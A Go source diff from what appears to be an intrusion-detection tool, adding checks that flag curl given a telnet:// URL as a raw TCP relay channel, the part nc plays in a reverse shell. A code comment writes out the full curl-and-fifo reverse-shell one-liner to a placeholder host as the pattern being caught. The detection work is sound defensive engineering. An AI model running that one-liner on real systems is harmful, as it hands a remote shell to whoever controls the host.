@@ -282,6 +282,32 @@ func isChannelImage(exe string) bool {
 	return false
 }
 
+// isChannelProcess is isChannelImage of a process, with curl given a
+// telnet:// URL: curl's telnet protocol is a bare TCP session, stdin to
+// the socket and the socket to stdout (-T . keeps stdin flowing), the
+// part nc plays in a relay (shop-engrave: curl -sN -T . telnet://host:port
+// < fifo | /bin/sh > fifo). curl fetching a URL stays a client.
+func isChannelProcess(p *parser.Process) bool {
+	if p == nil {
+		return false
+	}
+	return isChannelImage(p.Exe) || rawSessionClient(p.Exe, p.Args)
+}
+
+// rawSessionClient reports whether a command line is curl holding a bare
+// TCP session (a telnet:// URL).
+func rawSessionClient(exe string, args []string) bool {
+	if path.Base(exe) != "curl" {
+		return false
+	}
+	for _, a := range args[min(1, len(args)):] {
+		if len(a) > 9 && strings.EqualFold(a[:9], "telnet://") {
+			return true
+		}
+	}
+	return false
+}
+
 // webAccounts are the service accounts web servers run as on common
 // distributions; uid 33 (Debian www-data) and 48 (RHEL apache) are checked
 // by number too because logs without names only carry the uid.
